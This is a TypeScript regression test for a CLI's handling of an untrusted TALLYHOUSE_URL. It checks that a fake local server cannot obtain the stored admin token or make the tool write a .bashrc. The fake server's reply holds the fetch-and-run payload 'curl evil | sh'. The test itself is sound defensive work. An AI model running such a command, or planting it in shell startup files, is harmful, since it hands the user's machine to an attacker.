// Issue 29.5: the CLI trusted whatever answered at TALLYHOUSE_URL: it sent the local admin token from
// DATA_DIR/admin.json there, and wrote a file wherever the answer said (a .bashrc) although no --out was given.
// The endpoint here is a stand-in on 127.0.0.1 that records what reaches it and answers with a file to write.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { runCli } from '../support/process.js';

const LOCAL_TOKEN = 'f'.repeat(64);
const servers: Server[] = [];
afterAll(() => {
  for (const s of servers) s.close();
});

/** An endpoint that answers every command with "write this file" and exit 0; records the Authorization headers. */
async function fakeEndpoint(fileFor: (argv: string[]) => string) {
  const seen: string[] = [];
  const server = createServer((req, res) => {
    seen.push(req.headers.authorization ?? '(none)');
    let body = '';
    req.on('data', (d: Buffer) => (body += d.toString()));
    req.on('end', () => {
      const { argv } = JSON.parse(body) as { argv: string[] };
      res.writeHead(200, { 'content-type': 'application/x-ndjson' });
      res.end(`${JSON.stringify({ file: fileFor(argv), data: 'curl evil | sh\n' })}\n${JSON.stringify({ exit: 0 })}\n`);
    });
  });
  servers.push(server);
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen };
}

/** A data directory with an admin.json as a service leaves it (its token is what must not leak). */
function dataDirWithToken(): string {
  const dir = mkdtempSync(join(tmpdir(), 'th-untrusted-'));
  writeFileSync(join(dir, 'admin.json'), JSON.stringify({ pid: process.pid, url: 'http://127.0.0.1:9', token: LOCAL_TOKEN }), { mode: 0o600 });
  return dir;
}

describe('TALLYHOUSE_URL pointing at something that is not the local service', () => {
  it('without TALLYHOUSE_ADMIN_TOKEN: the local token is not sent, nothing is written, exit 2 naming the variable', async () => {
    const home = mkdtempSync(join(tmpdir(), 'th-home-'));
    const bashrc = join(home, '.bashrc');
    const fake = await fakeEndpoint(() => bashrc);
    const p = runCli(['report', 'finance', '--month', '2026-11'], { DATA_DIR: dataDirWithToken(), TALLYHOUSE_URL: fake.url });
    const { code } = await p.exited;
    expect({ seen: fake.seen, bashrcWritten: existsSync(bashrc) }).toEqual({ seen: [], bashrcWritten: false });
    expect(code).toBe(2);
    expect(p.stderr()).toMatch(/^tallyhouse: invalid configuration: TALLYHOUSE_ADMIN_TOKEN: the admin token of the service at TALLYHOUSE_URL .*\n$/);
  });

  it('with an explicit token: only that token is sent; a file the user did not name with --out is not written (exit 1)', async () => {
    const home = mkdtempSync(join(tmpdir(), 'th-home-'));
    const bashrc = join(home, '.bashrc');
    const fake = await fakeEndpoint(() => bashrc);
    const given = 'g'.repeat(64);
    const p = runCli(['report', 'finance', '--month', '2026-11'], { DATA_DIR: dataDirWithToken(), TALLYHOUSE_URL: fake.url, TALLYHOUSE_ADMIN_TOKEN: given });
    const { code } = await p.exited;
    expect({ seen: fake.seen, bashrcWritten: existsSync(bashrc) }).toEqual({ seen: [`Bearer ${given}`], bashrcWritten: false });
    expect(code).toBe(1);
    expect(p.stderr()).toBe(
      `tallyhouse: the service at ${fake.url} answered with a file to write that is not the --out you gave: nothing written (is TALLYHOUSE_URL a Tallyhouse service?)\n`,
    );

    // With --out, another path in the answer is refused too; the path given is written.
    const out = join(home, 'report.csv');
    const withOut = runCli(['report', 'finance', '--month', '2026-11', '--out', out], { DATA_DIR: dataDirWithToken(), TALLYHOUSE_URL: fake.url, TALLYHOUSE_ADMIN_TOKEN: given });
    expect((await withOut.exited).code).toBe(1);
    expect(existsSync(bashrc)).toBe(false);
    expect(existsSync(out)).toBe(false);
    const honest = await fakeEndpoint((argv) => argv[argv.indexOf('--out') + 1]);
    const ok = runCli(['report', 'finance', '--month', '2026-11', '--out', out], { DATA_DIR: dataDirWithToken(), TALLYHOUSE_URL: honest.url, TALLYHOUSE_ADMIN_TOKEN: given });
    expect((await ok.exited).code, ok.stderr()).toBe(0);
    expect(readFileSync(out, 'utf8')).toBe('curl evil | sh\n');
  });
});
